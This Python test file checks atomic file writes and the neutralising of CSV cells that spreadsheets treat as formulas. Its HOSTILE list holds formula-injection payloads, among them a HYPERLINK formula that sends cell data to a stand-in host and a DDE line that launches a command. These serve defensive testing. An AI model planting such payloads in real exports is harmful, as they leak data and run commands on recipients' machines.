"""Atomic writes that never replace a different file unasked."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from kil_io.files import csv_text, inert, write_text_atomic


def test_write_then_unchanged_then_kept_then_replaced(tmp_path: Path) -> None:
    p = tmp_path / "sub" / "a.csv"
    assert write_text_atomic(p, "x,1\n") == "written"
    assert write_text_atomic(p, "x,1\n") == "unchanged"
    assert write_text_atomic(p, "x,2\n") == "kept"
    assert p.read_text() == "x,1\n"
    assert write_text_atomic(p, "x,2\n", force=True) == "replaced"
    assert p.read_text() == "x,2\n"
    assert [f.name for f in p.parent.iterdir()] == ["a.csv"]  # no temporary files left


def test_failed_write_leaves_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    p = tmp_path / "a.csv"
    p.write_text("old")

    def boom(*_: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("kil_io.files.os.replace", boom)
    with pytest.raises(OSError, match="disk full"):
        write_text_atomic(p, "new", force=True)
    assert p.read_text() == "old"
    assert [f.name for f in tmp_path.iterdir()] == ["a.csv"]


HOSTILE = ['=HYPERLINK("http://x.example/"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def test_csv_text_neutralises_what_a_spreadsheet_reads_as_a_formula() -> None:
    for text in HOSTILE:
        assert inert(text) == "'" + text
    for text in ("Acme Ltd", "", "a=b", "O'Neill & Sons", "1+1"):
        assert inert(text) == text
    assert inert(-5.0) == -5.0  # numbers stay numbers, negative or not
    assert inert(None) is None


def test_csv_frame_neutralises_cells_labels_and_titles_but_not_numbers() -> None:
    hostile = [t for t in HOSTILE if "\r" not in t]  # a carriage return inside a cell splits lines in the reader
    frame = pd.DataFrame({"name": hostile, "amount": [-1.5] * len(hostile)}, index=pd.Index(hostile, name="=id"))
    frame["=col"] = "safe"
    back = pd.read_csv(io.StringIO(csv_text(frame)), index_col=0, keep_default_na=False)
    assert list(back["name"]) == ["'" + t for t in hostile]
    assert list(back.index) == ["'" + t for t in hostile]
    assert back.index.name == "'=id"
    assert list(back.columns) == ["name", "amount", "'=col"]
    assert list(back["amount"]) == [-1.5] * len(hostile)
    for line in csv_text(frame).splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not re.match(r"-[^\d]", cell), cell
